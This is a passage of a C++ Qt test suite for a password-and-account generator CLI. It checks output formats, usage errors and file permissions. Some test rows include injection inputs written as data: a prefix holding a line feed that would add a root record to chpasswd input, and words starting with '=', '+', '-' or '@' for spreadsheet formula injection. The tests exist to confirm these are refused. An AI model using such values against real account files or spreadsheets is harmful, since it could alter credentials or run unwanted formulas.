#include "FileSizeLimit.h"
#include "TestFiles.h"
#include "engine/PassphraseMaker.h"
#include "engine/RandomSource.h"
#include "engine/RulesPasswordMaker.h"
#include "resources/Layouts.h"

#include <QDir>
#include <QJsonArray>
#include <QJsonDocument>
#include <QMap>
#include <QProcess>
#include <QRegularExpression>
#include <QSet>
#include <QTemporaryDir>
#include <QtTest>

#include <algorithm>

#include <crypt.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace Qt::StringLiterals;

namespace {

// The program and the launcher are found from the test's own folder, so that a copy of the build runs too.
QString builtFile(const char* pathFromTest)
{
    return QDir(QCoreApplication::applicationDirPath()).filePath(QString::fromUtf8(pathFromTest));
}

QString cli()
{
    return builtFile(VARNEL_CLI_FROM_TEST);
}

struct Outcome
{
    int status = -1;
    QByteArray out;
    QByteArray err;
};

// Runs varnel-cli (through a launcher, if given) in a folder, with the bytes of standard input.
Outcome run(const QString& folder, const QStringList& arguments, const QByteArray& input = {},
            const QString& launcher = {})
{
    QProcess process;
    process.setWorkingDirectory(folder);
    if (launcher.isEmpty())
        process.start(cli(), arguments);
    else
        process.start(launcher, QStringList{cli()} + arguments);
    if (!process.waitForStarted())
        return {};
    process.write(input);
    process.closeWriteChannel();
    if (!process.waitForFinished(120'000) || process.exitStatus() != QProcess::NormalExit)
        return {};
    return {process.exitCode(), process.readAllStandardOutput(), process.readAllStandardError()};
}

// One line on standard error that starts as given.
bool isOneLineStartingWith(const QByteArray& err, const QByteArray& start)
{
    return err.startsWith(start) && err.count('\n') == 1 && err.endsWith('\n');
}

// What another program prints when given these arguments and bytes on standard input.
QByteArray outputOf(const QString& program, const QStringList& arguments, const QByteArray& input = {})
{
    QProcess process;
    process.start(program, arguments);
    process.write(input);
    process.closeWriteChannel();
    process.waitForFinished(60'000);
    return process.readAllStandardOutput();
}

// Whether crypt(3) finds that the password gives the hash.
bool hashMatches(const QByteArray& password, const QByteArray& hash)
{
    auto data = std::make_unique<crypt_data>();
    const char* made = crypt_rn(password.constData(), hash.constData(), data.get(), sizeof *data);
    return made && hash == made;
}

// Each "name:hash" line of a chpasswd file.
QList<QByteArrayList> chpasswdRecords(const QByteArray& bytes)
{
    QList<QByteArrayList> records;
    for (const QByteArray& line : bytes.split('\n')) {
        if (!line.isEmpty())
            records.append({line.left(line.indexOf(':')), line.mid(line.indexOf(':') + 1)});
    }
    return records;
}

const QString Every = QStringLiteral("[A-Za-z0-9!@#$%^&*()_+=\\-';:\\]\\[{}.<>]");

// A thousand different words of letters alone, a word a line: the smallest list a file may give.
QByteArray thousandWords()
{
    QByteArray words;
    for (int i = 0; i < 1000; ++i)
        words += QByteArray("w") + char('a' + i / 100) + char('a' + i / 10 % 10) + char('a' + i % 10) + '\n';
    return words;
}

// The line --entropy prints for this many bits.
QByteArray entropyLine(double bits)
{
    return "entropy: " + QByteArray::number(bits, 'f', 1) + " bits per password\n";
}

// The text of each slip as pdftotext finds it, its words in reading order with nothing between them, or
// empty when a word of it crosses a cut line. The slips fill each page inside 10 mm margins, two across and
// five down.
QByteArrayList slipTexts(const QString& pdf)
{
    constexpr qreal Margin = 10 / 25.4 * 72;
    static const QRegularExpression page(uR"re(<page width="([\d.]+)" height="([\d.]+)">)re"_s);
    static const QRegularExpression word(
        uR"re(<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)</word>)re"_s);
    QMap<int, QList<std::pair<QPointF, QByteArray>>> slips;
    const QString html = QString::fromUtf8(outputOf(u"pdftotext"_s, {u"-bbox"_s, pdf, u"-"_s}));
    int pageNumber = -1;
    QSizeF slip;
    for (const QString& part : html.split(u"</page>"_s)) {
        const QRegularExpressionMatch size = page.match(part);
        if (!size.hasMatch())
            continue;
        ++pageNumber;
        slip = QSizeF((size.captured(1).toDouble() - 2 * Margin) / 2, (size.captured(2).toDouble() - 2 * Margin) / 5);
        for (const QRegularExpressionMatch& found : word.globalMatch(part)) {
            const QRectF box(QPointF(found.captured(1).toDouble() - Margin, found.captured(2).toDouble() - Margin),
                             QPointF(found.captured(3).toDouble() - Margin, found.captured(4).toDouble() - Margin));
            const int column = int(box.center().x() / slip.width());
            const int row = int(box.center().y() / slip.height());
            if (!QRectF(QPointF(column * slip.width(), row * slip.height()), slip).contains(box))
                return {};
            slips[pageNumber * 10 + row * 2 + column].append({box.topLeft(), found.captured(5).toUtf8()});
        }
    }
    QByteArrayList texts;
    for (QList<std::pair<QPointF, QByteArray>>& words : slips) {
        std::sort(words.begin(), words.end(), [](const auto& a, const auto& b) {
            return std::pair(qRound(a.first.y()), a.first.x()) < std::pair(qRound(b.first.y()), b.first.x());
        });
        texts.append(QByteArray());
        for (const auto& [where, text] : std::as_const(words))
            texts.back() += text;
    }
    return texts;
}

} // namespace

Q_DECLARE_METATYPE(PassphraseRecipe)
Q_DECLARE_METATYPE(RulesRecipe)

class TestCli final : public QObject
{
    Q_OBJECT

private slots:
    void recordsFollowTheOptions_data();
    void recordsFollowTheOptions();
    void usageErrorsWriteNothing_data();
    void usageErrorsWriteNothing();
    void fileErrorsLeaveNoOutputFile_data();
    void fileErrorsLeaveNoOutputFile();
    void outputFileHoldsTheRecords_data();
    void outputFileHoldsTheRecords();
    void failedWriteKeepsTheOldFile();
    void closedPipeEndsTheRunQuietly();
    void noSecureRandomNumbersWriteNothing_data();
    void noSecureRandomNumbersWriteNothing();
    void hostileNamesLeaveNoFile_data();
    void hostileNamesLeaveNoFile();
    void randomUsernamesOfAccountsAreAllDifferent();
    void readersGetTheNamesBack_data();
    void readersGetTheNamesBack();
    void hashesAreThoseOfThePlainPasswords_data();
    void hashesAreThoseOfThePlainPasswords();
    void entropyComesFirstOnStandardError_data();
    void entropyComesFirstOnStandardError();
    void slipsHoldEveryTextWhole_data();
    void slipsHoldEveryTextWhole();
    void slipsPaperFollowsTheLocale_data();
    void slipsPaperFollowsTheLocale();
    void helpListsEveryOptionWithItsDefault();
    void passphrasesAreWordsOfTheirList_data();
    void passphrasesAreWordsOfTheirList();
    void rulesPasswordsMeetTheirRules_data();
    void rulesPasswordsMeetTheirRules();
    void passphraseOnASlipBreaksAfterItsSeparators();
    void shellConventionsHold_data();
    void shellConventionsHold();
    void progressIsShownOnATerminalAndErased();
    void versionIsTheAboutBoxVersion();
};

void TestCli::recordsFollowTheOptions_data()
{
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<QByteArray>("input");
    QTest::addColumn<QString>("records");
    QTest::addColumn<QByteArray>("warning");

    QTest::newRow("the defaults make one password of 16 letters and digits, without a username")
        << QStringList{} << QByteArray() << u"[A-Za-z0-9]{16}\n"_s << QByteArray();
    QTest::newRow("numbered usernames count up in output order, CSV joins with commas and ends with none")
        << QStringList{u"-n"_s, u"3"_s, u"-l"_s, u"4"_s, u"-u"_s, u"numbered"_s, u"-F"_s, u"csv"_s} << QByteArray()
        << u"[A-Za-z0-9]{4},1,[A-Za-z0-9]{4},2,[A-Za-z0-9]{4},3"_s << QByteArray();
    QTest::newRow("without usernames a record is the password alone, of the length, style and case chosen")
        << QStringList{u"--count=2"_s, u"--length=12"_s, u"--style=alphabetic"_s, u"--case=lower"_s,
                       u"--usernames=none"_s}
        << QByteArray() << u"([a-z]{12}\n){2}"_s << QByteArray();
    QTest::newRow("symbols in mixed case draw passwords and usernames from all 86 characters")
        << QStringList{u"-n"_s, u"3"_s, u"-s"_s, u"symbols"_s, u"-c"_s, u"mixed"_s, u"-u"_s, u"random"_s}
        << QByteArray() << u"(%1{16},%1{16}\n){3}"_s.arg(Every) << QByteArray();
    QTest::newRow("exclude-similar keeps the look-alikes out of passwords and random usernames")
        << QStringList{u"-n"_s, u"40"_s,    u"-l"_s,
                       u"50"_s, u"-s"_s,    u"alphanumeric"_s,
                       u"-c"_s, u"mixed"_s, u"--exclude-similar"_s,
                       u"-u"_s, u"random"_s}
        << QByteArray() << u"([A-HJ-NP-Za-km-z2-9]{50},[A-HJ-NP-Za-km-z2-9]{50}\n){40}"_s << QByteArray();
    QTest::newRow("every-class gives each two-character password a letter and a digit")
        << QStringList{u"-n"_s,   u"300"_s,           u"-l"_s, u"2"_s,    u"-s"_s, u"alphanumeric"_s, u"-u"_s,
                       u"none"_s, u"--every-class"_s, u"-c"_s, u"upper"_s}
        << QByteArray() << u"((?=[A-Z0-9]*[A-Z])(?=[A-Z0-9]*[0-9])[A-Z0-9]{2}\n){300}"_s
        << "varnel-cli: warning: these options allow only 520 different passwords\n"_ba;
    QTest::newRow("numbered usernames take the prefix, zeros up to the digits asked, and count from the start")
        << QStringList{u"-n"_s,      u"3"_s,        u"-u"_s, u"numbered"_s, u"--prefix"_s,
                       u"student"_s, u"--digits"_s, u"3"_s,  u"--start"_s,  u"9"_s}
        << QByteArray() << u"[A-Za-z0-9]{16},student009\n[A-Za-z0-9]{16},student010\n[A-Za-z0-9]{16},student011\n"_s
        << QByteArray();
    QTest::newRow("exclude leaves its characters out of the passwords; those not drawn from change nothing")
        << QStringList{u"-n"_s, u"200"_s, u"-s"_s, u"symbols"_s, u"--exclude"_s, u"'\";<>$&*0O~"_s} << QByteArray()
        << u"([A-NP-Za-z1-9!@#%^()_+=\\-:\\]\\[{}.]{16}\n){200}"_s << QByteArray();
    QTest::newRow("chpasswd records give each name its password after a colon")
        << QStringList{u"-f"_s, u"-"_s, u"-F"_s, u"chpasswd"_s} << "alice\nbob\n"_ba
        << u"alice:[A-Za-z0-9]{16}\nbob:[A-Za-z0-9]{16}\n"_s << QByteArray();
    QTest::newRow("a table without usernames has a password header and a password a record")
        << QStringList{u"-n"_s, u"2"_s, u"-F"_s, u"table"_s} << QByteArray()
        << u"password\r\n([A-Za-z0-9]{16}\r\n){2}"_s << QByteArray();
    QTest::newRow("JSON records without usernames have no username key")
        << QStringList{u"-n"_s, u"2"_s, u"-F"_s, u"json"_s} << QByteArray()
        << u"(\\{\"password\":\"[A-Za-z0-9]{16}\"\\}\n){2}"_s << QByteArray();
    QTest::newRow("names from standard input get a password each, in order, read as the window reads them")
        << QStringList{u"-f"_s, u"-"_s} << "alice\r\n\n  \nbob, jr\ncarol"_ba
        << u"[A-Za-z0-9]{16},alice\n[A-Za-z0-9]{16},  \n[A-Za-z0-9]{16},bob, jr\n[A-Za-z0-9]{16},carol\n"_s
        << QByteArray();
    QTest::newRow("names from a file in CSV, with the chosen password characters")
        << QStringList{u"--names"_s, u"names.txt"_s, u"-F"_s, u"csv"_s, u"-s"_s, u"alphabetic"_s} << "x\ny\n"_ba
        << u"[A-Za-z]{16},x,[A-Za-z]{16},y"_s << QByteArray();
    QTest::newRow("a byte order mark before the first name is no part of its chpasswd record")
        << QStringList{u"-f"_s, u"-"_s, u"-F"_s, u"chpasswd"_s} << "\357\273\277zoe\nbob\n"_ba
        << u"zoe:[A-Za-z0-9]{16}\nbob:[A-Za-z0-9]{16}\n"_s << QByteArray();
    QTest::newRow("root gets a chpasswd record when system accounts are allowed")
        << QStringList{u"-f"_s, u"-"_s, u"-F"_s, u"chpasswd"_s, u"--allow-system-accounts"_s} << "root\n"_ba
        << u"root:[A-Za-z0-9]{16}\n"_s << QByteArray();
    QTest::newRow("a Latin-1 list is written as it is where no person reads the records")
        << QStringList{u"-f"_s, u"-"_s} << "Zo\xeb\n"_ba << u"[A-Za-z0-9]{16},Zo\uFFFD\n"_s << QByteArray();
    QTest::newRow("no numeric password of a table starts with 0, which spreadsheets drop")
        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"numeric"_s, u"-l"_s, u"6"_s, u"-n"_s, u"20000"_s} << QByteArray()
        << u"password\r\n([1-9][0-9]{5}\r\n)+"_s
        << "varnel-cli: warning: these options allow only 900000 different passwords\n"_ba;
    QTest::newRow("no symbol password of a table starts with = + - @ ', which spreadsheets run or hide")
        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"symbols"_s, u"--exclude"_s, u"0123456789"_s, u"-n"_s, u"20000"_s}
        << QByteArray()
        << u"password\r\n([A-Za-z!#$%^&*()_;:\\]\\[{}.<>][A-Za-z!@#$%^&*()_+=\\-';:\\]\\[{}.<>]{15}\r\n)+"_s
        << QByteArray();
    QTest::newRow("a title that reads as one of the toolkit's own options is only a title")
        << QStringList{u"--title"_s, u"-platform"_s, u"--slips"_s, u"slips.pdf"_s} << QByteArray()
        << u"[A-Za-z0-9]{16}\n"_s << QByteArray();
    QTest::newRow("a table of passphrases leaves out the list's words that spreadsheets would run or hide")
        << QStringList{u"-F"_s,        u"table"_s, u"-s"_s, u"words"_s, u"--wordlist"_s,
                       u"names.txt"_s, u"-l"_s,    u"1"_s,  u"-n"_s,    u"5000"_s}
        << "=evil\n+plus\n-minus\n@at\n'quote\n" + thousandWords() << u"password\r\n(w[a-j]{3}\r\n)+"_s
        << "varnel-cli: warning: these options allow only 1000 different passwords\n"_ba;
    QTest::newRow("a roster's accounts for newusers get passphrases")
        << QStringList{u"--roster"_s, u"names.txt"_s, u"-F"_s, u"newusers"_s, u"-s"_s, u"words"_s, u"-l"_s, u"3"_s}
        << "first,last\nAnna,Berg\n"_ba << u"anna\\.berg:[a-z]+(-[a-z]+){2}:::Anna Berg:/home/anna\\.berg:/bin/bash\n"_s
        << QByteArray();
}

void TestCli::recordsFollowTheOptions()
{
    QFETCH(QStringList, arguments);
    QFETCH(QByteArray, input);
    QFETCH(QString, records);
    QFETCH(QByteArray, warning);

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    createFile(folder.filePath(u"names.txt"_s), input);
    const Outcome outcome = run(folder.path(), arguments, input);

    QCOMPARE(outcome.status, 0);
    QCOMPARE(outcome.err, warning);
    const QRegularExpression expected(QRegularExpression::anchoredPattern(records));
    QVERIFY2(expected.match(QString::fromUtf8(outcome.out)).hasMatch(), outcome.out.left(2000).constData());
}

void TestCli::usageErrorsWriteNothing_data()
{
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<QByteArray>("message");

    QTest::newRow("an unknown option is named")
        << QStringList{u"--frobnicate"_s} << "varnel-cli: --frobnicate: unknown option"_ba;
    QTest::newRow("a count that is no number is refused with its value")
        << QStringList{u"-n"_s, u"ten"_s}
        << "varnel-cli: --count: 'ten' is not a whole number from 1 to 1000000000000"_ba;
    QTest::newRow("a count beyond 10^12 is refused")
        << QStringList{u"-n"_s, u"1000000000001"_s} << "varnel-cli: --count: '1000000000001' is not"_ba;
    QTest::newRow("a negative length is refused, not taken for an option")
        << QStringList{u"-l"_s, u"-5"_s} << "varnel-cli: --length: '-5' is not a whole number from 1 to 1024"_ba;
    QTest::newRow("an unknown style is refused with the styles there are")
        << QStringList{u"-s"_s, u"hex"_s}
        << "varnel-cli: --style: 'hex' is not one of numeric, alphabetic, alphanumeric, symbols"_ba;
    QTest::newRow("a count together with names conflicts") << QStringList{u"-n"_s, u"2"_s, u"-f"_s, u"names.txt"_s}
                                                           << "varnel-cli: --count: cannot be used with --names"_ba;
    QTest::newRow("every class in fewer characters than classes is refused")
        << QStringList{u"-s"_s, u"symbols"_s, u"-c"_s, u"mixed"_s, u"-l"_s, u"3"_s, u"--every-class"_s}
        << "varnel-cli: --every-class: a password of 3 characters cannot hold all 4 classes"_ba;
    QTest::newRow("an unknown hash method is refused with the methods there are")
        << QStringList{u"--hash"_s, u"md5"_s, u"--plain"_s, u"plain.csv"_s}
        << "varnel-cli: --hash: 'md5' is not one of yescrypt, sha512crypt"_ba;
    QTest::newRow("hashes without a place for the plain passwords are refused")
        << QStringList{u"--hash"_s, u"yescrypt"_s}
        << "varnel-cli: --hash: the plain passwords need --plain FILE or --slips FILE"_ba;
    QTest::newRow("no digits at all are refused") << QStringList{u"-u"_s, u"numbered"_s, u"--digits"_s, u"0"_s}
                                                  << "varnel-cli: --digits: '0' is not a whole number from 1 to 18"_ba;
    QTest::newRow("more than 18 digits are refused")
        << QStringList{u"-u"_s, u"numbered"_s, u"--digits"_s, u"19"_s} << "varnel-cli: --digits: '19' is not"_ba;
    QTest::newRow("a start beyond the counter's 18 digits is refused")
        << QStringList{u"-u"_s, u"numbered"_s, u"--start"_s, u"1000000000000000000"_s}
        << "varnel-cli: --start: '1000000000000000000' is not a whole number from 0 to 999999999999999999"_ba;
    QTest::newRow("a prefix without numbered usernames is refused")
        << QStringList{u"--prefix"_s, u"student"_s} << "varnel-cli: --prefix: needs --usernames numbered"_ba;
    QTest::newRow("chpasswd records without usernames are refused")
        << QStringList{u"-F"_s, u"chpasswd"_s, u"-u"_s, u"none"_s}
        << "varnel-cli: --format: chpasswd records need usernames"_ba;
    QTest::newRow("chpasswd records with random usernames that may hold a colon are refused")
        << QStringList{u"-F"_s, u"chpasswd"_s, u"-u"_s, u"random"_s, u"-s"_s, u"symbols"_s}
        << "varnel-cli: --format: random usernames of these characters may hold ':'"_ba;
    QTest::newRow("a title without slips is refused")
        << QStringList{u"--title"_s, u"Class 7B"_s} << "varnel-cli: --title: needs --slips"_ba;
    QTest::newRow("excluding every character is refused")
        << QStringList{u"-s"_s, u"numeric"_s, u"--exclude"_s, u"0123456789"_s}
        << "varnel-cli: --exclude: leaves no character to draw from"_ba;
    QTest::newRow("every class when the exclusions empty one is refused")
        << QStringList{u"--every-class"_s, u"--exclude"_s, u"0123456789"_s}
        << "varnel-cli: --every-class: --exclude leaves a class of the characters without any"_ba;
    QTest::newRow("a prefix holding a line feed, which would write a root record, is refused")
        << QStringList{u"-u"_s, u"numbered"_s, u"--prefix"_s, u"evil\nroot"_s}
        << "varnel-cli: --prefix: a prefix holding the control character 0x0A is refused"_ba;
    QTest::newRow("more random usernames for accounts than can be drawn all different are refused")
        << QStringList{u"-u"_s,      u"random"_s, u"-l"_s,  u"3"_s,  u"-s"_s,
                       u"numeric"_s, u"-n"_s,     u"501"_s, u"-F"_s, u"table"_s}
        << "varnel-cli: --count: random usernames of these characters and length are drawn all different for 500 "
           "accounts at most"_ba;
    QTest::newRow("random usernames that may start a formula in a table are refused")
        << QStringList{u"-u"_s, u"random"_s, u"-s"_s, u"symbols"_s, u"--plain"_s, u"plain.csv"_s}
        << "varnel-cli: --usernames: random usernames of these characters may start with '='"_ba;
    QTest::newRow("exclusions that leave a table no password a spreadsheet keeps are refused")
        << QStringList{u"-F"_s, u"table"_s, u"-s"_s, u"numeric"_s, u"-l"_s, u"1"_s, u"--exclude"_s, u"123456789"_s}
        << "varnel-cli: --exclude: leaves no password a spreadsheet keeps as it is"_ba;
    QTest::newRow("an option without its value is named") << QStringList{u"-l"_s} << "varnel-cli: -l: missing value"_ba;
    QTest::newRow("an argument that is no option is refused")
        << QStringList{u"extra"_s} << "varnel-cli: 'extra': unexpected argument"_ba;
    QTest::newRow("words take no excluded characters") << QStringList{u"-s"_s, u"words"_s, u"--exclude"_s, u"e"_s}
                                                       << "varnel-cli: --exclude: does not apply to words"_ba;
    QTest::newRow("words are not held to every class") << QStringList{u"-s"_s, u"words"_s, u"--every-class"_s}
                                                       << "varnel-cli: --every-class: does not apply to words"_ba;
    QTest::newRow("no words at all are refused")
        << QStringList{u"-s"_s, u"words"_s, u"-l"_s, u"0"_s}
        << "varnel-cli: --length: '0' is not a whole number from 1 to 100000"_ba;
    QTest::newRow("random usernames have no characters to come from with words")
        << QStringList{u"-s"_s, u"words"_s, u"-u"_s, u"random"_s}
        << "varnel-cli: --usernames: random usernames are drawn from a password's characters"_ba;
    QTest::newRow("a passphrase's option without words is refused")
        << QStringList{u"--capitalize"_s} << "varnel-cli: --capitalize: needs --style words"_ba;
    QTest::newRow("a word list file of too few words is refused with its name")
        << QStringList{u"-s"_s, u"words"_s, u"--wordlist"_s, u"names.txt"_s}
        << "varnel-cli: --wordlist: names.txt: holds only 1 different words; a word list needs at least 1000"_ba;
    QTest::newRow("rules take the place of the style")
        << QStringList{u"--rules"_s, u"required: digit"_s, u"-s"_s, u"numeric"_s}
        << "varnel-cli: --style: cannot be used with --rules"_ba;
    QTest::newRow("rules are not held to every class as well")
        << QStringList{u"--rules"_s, u"required: digit"_s, u"--every-class"_s}
        << "varnel-cli: --every-class: cannot be used with --rules"_ba;
    QTest::newRow("a rule that cannot be read is quoted") << QStringList{u"--rules"_s, u"minlength: 8; maxlenght: 12"_s}
                                                          << "varnel-cli: --rules: unknown property \"maxlenght\""_ba;
    QTest::newRow("a hash cost beyond yescrypt's is refused with its range")
        << QStringList{u"--hash"_s, u"yescrypt"_s, u"--hash-cost"_s, u"12"_s, u"--plain"_s, u"plain.csv"_s}
        << "varnel-cli: --hash-cost: '12' is not a whole number from 1 to 11"_ba;
    QTest::newRow("a hash cost without hashes is refused")
        << QStringList{u"--hash-cost"_s, u"5000"_s} << "varnel-cli: --hash-cost: needs --hash"_ba;
    QTest::newRow("rules that let a table's password start with a formula character are refused")
        << QStringList{u"-F"_s, u"table"_s, u"--rules"_s, u"required: lower; allowed: [-_.!]"_s}
        << "varnel-cli: --rules: its passwords may start with '-'"_ba;
    QTest::newRow("rules of digits only are refused for the plain table while 0 may lead")
        << QStringList{u"--plain"_s, u"plain.csv"_s, u"--rules"_s, u"allowed: digit"_s}
        << "varnel-cli: --rules: its passwords of digits only may start with 0"_ba;
    QTest::newRow("passphrases are refused where the target asks for three classes")
        << QStringList{u"--roster"_s, u"names.txt"_s, u"-F"_s, u"entra"_s, u"-s"_s, u"words"_s}
        << "varnel-cli: --style: Microsoft Entra ID asks for passwords holding 3 of"_ba;
    QTest::newRow("a passphrase separator that newusers cannot take is refused")
        << QStringList{u"--roster"_s, u"names.txt"_s, u"-F"_s,          u"newusers"_s,
                       u"-s"_s,       u"words"_s,     u"--separator"_s, u":"_s}
        << "varnel-cli: --separator: newusers takes no password holding ':'"_ba;
    QTest::newRow("passphrases that may fall short of Google's eight characters are refused")
        << QStringList{u"--roster"_s, u"names.txt"_s, u"-F"_s, u"google"_s, u"-s"_s, u"words"_s, u"-l"_s, u"1"_s}
        << "varnel-cli: --length: Google Workspace takes passwords of at least 8 characters"_ba;
    QTest::newRow("more accounts than random usernames of the rules can keep apart are refused")
        << QStringList{u"-F"_s, u"chpasswd"_s, u"-u"_s, u"random"_s,  u"-n"_s,
                       u"5"_s,  u"-l"_s,       u"3"_s,  u"--rules"_s, u"allowed: [ab]; maxlength: 3"_s}
        << "varnel-cli: --count: random usernames of these characters and length are drawn all different for 4"_ba;
    QTest::newRow("plain passwords into the output file under another spelling are refused, even with --force")
        << QStringList{u"--plain"_s, u"./out.txt"_s, u"--force"_s}
        << "varnel-cli: --plain: names the same file as --output"_ba;
    QTest::newRow("slips into the output file are refused")
        << QStringList{u"--slips"_s, u"out.txt"_s} << "varnel-cli: --slips: names the same file as --output"_ba;
    QTest::newRow("plain passwords through the user's own link to the output file are refused")
        << QStringList{u"--plain"_s, u"mine.txt"_s} << "varnel-cli: --plain: names the same file as --output"_ba;
    QTest::newRow("slips into a second name of the plain file are refused, even with --force")
        << QStringList{u"--plain"_s, u"names.txt"_s, u"--slips"_s, u"again.txt"_s, u"--force"_s}
        << "varnel-cli: --slips: names the same file as --plain"_ba;
}

void TestCli::usageErrorsWriteNothing()
{
    QFETCH(QStringList, arguments);
    QFETCH(QByteArray, message);

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    createFile(folder.filePath(u"names.txt"_s), "alice\n"_ba);
    // Other names of the user's for the files: a link to the output file to come, a hard link of names.txt.
    QCOMPARE(::symlink("out.txt", nativePath(folder.filePath(u"mine.txt"_s)).constData()), 0);
    QCOMPARE(::link(nativePath(folder.filePath(u"names.txt"_s)).constData(),
                    nativePath(folder.filePath(u"again.txt"_s)).constData()),
             0);
    const Outcome outcome = run(folder.path(), QStringList{u"-o"_s, u"out.txt"_s} + arguments);

    QCOMPARE(outcome.status, 2);
    QCOMPARE(outcome.out, QByteArray());
    QVERIFY2(isOneLineStartingWith(outcome.err, message), outcome.err.constData());
    QVERIFY2(outcome.err.contains("--help"), outcome.err.constData());
    QCOMPARE(entriesOf(folder.path()), (QStringList{u"again.txt"_s, u"mine.txt"_s, u"names.txt"_s}));
    QCOMPARE(contentOf(folder.filePath(u"names.txt"_s)), "alice\n"_ba);
}

void TestCli::fileErrorsLeaveNoOutputFile_data()
{
    QTest::addColumn<QStringList>("arguments");
    QTest::addColumn<QByteArray>("message");
    QTest::addColumn<bool>("lockedFolder");

    QTest::newRow("a names file that does not exist is named with the reason")
        << QStringList{u"-f"_s, u"missing.txt"_s, u"-o"_s, u"out.txt"_s}
        << "varnel-cli: missing.txt: No such file or directory\n"_ba << false;
    QTest::newRow("a names folder is refused") << QStringList{u"-f"_s, u"folder"_s, u"-o"_s, u"out.txt"_s}
                                               << "varnel-cli: folder: Is a directory\n"_ba << false;
    QTest::newRow("an output file in a folder that does not exist is refused")
        << QStringList{u"-o"_s, u"nowhere/out.txt"_s} << "varnel-cli: nowhere/out.txt: No such file or directory\n"_ba
        << false;
    QTest::newRow("an existing output file is kept unless --force is given")
        << QStringList{u"-o"_s, u"old.txt"_s} << "varnel-cli: old.txt: already exists (--force replaces it)\n"_ba
        << false;
    QTest::newRow("a folder given as the output file is refused even with --force")
        << QStringList{u"-o"_s, u"folder"_s, u"--force"_s} << "varnel-cli: folder: Is a directory\n"_ba << false;
    QTest::newRow("slips in a folder that does not exist are refused")
        << QStringList{u"--slips"_s, u"nowhere/slips.pdf"_s}
        << "varnel-cli: nowhere/slips.pdf: No such file or directory\n"_ba << false;
    QTest::newRow("an existing slips file is kept unless --force is given")
        << QStringList{u"--slips"_s, u"old.txt"_s} << "varnel-cli: old.txt: already exists (--force replaces it)\n"_ba
        << false;
    QTest::newRow("slips that find the disk full leave no records file either")
        << QStringList{u"-n"_s,      u"30"_s,      u"-u"_s,        u"numbered"_s, u"-o"_s,
                       u"out.txt"_s, u"--slips"_s, u"/dev/full"_s, u"--force"_s}
        << "varnel-cli: /dev/full: No space left on device\n"_ba << false;
    QTest::newRow("a password too long for its slip even in the smallest print kept is named by its record")
        << QStringList{u"-n"_s, u"3"_s,    u"-u"_s, u"numbered"_s, u"--prefix"_s, u"s"_s,
                       u"-l"_s, u"1024"_s, u"-o"_s, u"out.txt"_s,  u"--slips"_s,  u"slips.pdf"_s}
        << "varnel-cli: slips.pdf: record 1 (username s1): the password does not fit on a slip even at 9 pt\n"_ba
        << false;
    QTest::newRow("a username too long for its slip even in the smallest print kept is named by its record")
        << QStringList{u"-f"_s, u"folder/long.txt"_s, u"-o"_s, u"out.txt"_s, u"--slips"_s, u"slips.pdf"_s}
        << "varnel-cli: slips.pdf: record 3 (username " + QByteArray(200, 'x')
            + "): the username does not fit on a slip even at 8 pt\n"
        << false;
    QTest::newRow("a title too long for a slip even in the smallest print kept is refused before any slip")
        << QStringList{u"--title"_s, u"Class 7B "_s.repeated(30), u"-o"_s, u"out.txt"_s, u"--slips"_s, u"slips.pdf"_s}
        << "varnel-cli: slips.pdf: the title does not fit on a slip even at 7 pt\n"_ba << false;
    QTest::newRow("a name holding a colon cannot go into chpasswd records, and its line is named")
        << QStringList{u"-f"_s, u"folder/names.txt"_s, u"-F"_s, u"chpasswd"_s, u"-o"_s, u"out.txt"_s}
        << "varnel-cli: folder/names.txt: line 2: a username holding ':' cannot go into a chpasswd record\n"_ba
        << false;
    QTest::newRow("a name that is not UTF-8 cannot go into JSON records, and its line is named")
        << QStringList{u"-f"_s, u"folder/names.txt"_s, u"-F"_s, u"json"_s, u"-o"_s, u"out.txt"_s}
        << "varnel-cli: folder/names.txt: line 3: a username that is not valid UTF-8 cannot go into a JSON record\n"_ba
        << false;
    QTest::newRow("a file in a folder that takes no new file is not written in place, even with --force")
        << QStringList{u"-o"_s, u"old.txt"_s, u"--force"_s} << "varnel-cli: old.txt: Permission denied\n"_ba << true;
}

void TestCli::fileErrorsLeaveNoOutputFile()
{
    QFETCH(QStringList, arguments);
    QFETCH(QByteArray, message);
    QFETCH(bool, lockedFolder);
    if (lockedFolder && runningAsRoot())
        QSKIP("root writes into any folder");

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    QVERIFY(QDir(folder.path()).mkdir(u"folder"_s));
    createFile(folder.filePath(u"folder/names.txt"_s), "alice\nbob:x\n\xff\xfe\n"_ba);
    createFile(folder.filePath(u"folder/long.txt"_s), "alice\nbob\n" + QByteArray(200, 'x') + '\n');
    createFile(folder.filePath(u"old.txt"_s), "old,file\n"_ba, 0640);
    if (lockedFolder)
        QCOMPARE(::chmod(nativePath(folder.path()).constData(), 0555), 0);
    const Outcome outcome = run(folder.path(), arguments);
    ::chmod(nativePath(folder.path()).constData(), 0700);

    QCOMPARE(outcome.status, 1);
    QCOMPARE(outcome.out, QByteArray());
    QCOMPARE(outcome.err, message);
    QCOMPARE(entriesOf(folder.path()), (QStringList{u"folder"_s, u"old.txt"_s}));
    QCOMPARE(contentOf(folder.filePath(u"old.txt"_s)), "old,file\n"_ba);
}

void TestCli::outputFileHoldsTheRecords_data()
{
    QTest::addColumn<bool>("existing");
    QTest::addColumn<uint>("mode");

    QTest::newRow("a new output file is readable and writable by its owner only") << false << 0600u;
    QTest::newRow("--force replaces an existing file readable by all with one for its owner only") << true << 0644u;
}

void TestCli::outputFileHoldsTheRecords()
{
    QFETCH(bool, existing);
    QFETCH(uint, mode);

    QTemporaryDir folder;
    QVERIFY(folder.isValid());
    const QString path = folder.filePath(u"out.txt"_s);
    if (existing)
        createFile(path, "old,file\n"_ba, mode);
    QStringList arguments{u"-n"_s, u"5"_s, u"-u"_s, u"numbered"_s, u"-o"_s, u"out.txt"_s};
    if (existing)
        arguments << u"--force"_s;
    const Outcome outcome = run(folder.path(), arguments);

    QCOMPARE(outcome.status, 0);
    QCOMPARE(outcome.out, QByteArray());
    const QRegularExpression records(QRegularExpression::anchoredPattern(u"([A-Za-z0-9]{16},[1-5]\n){5}"_s));
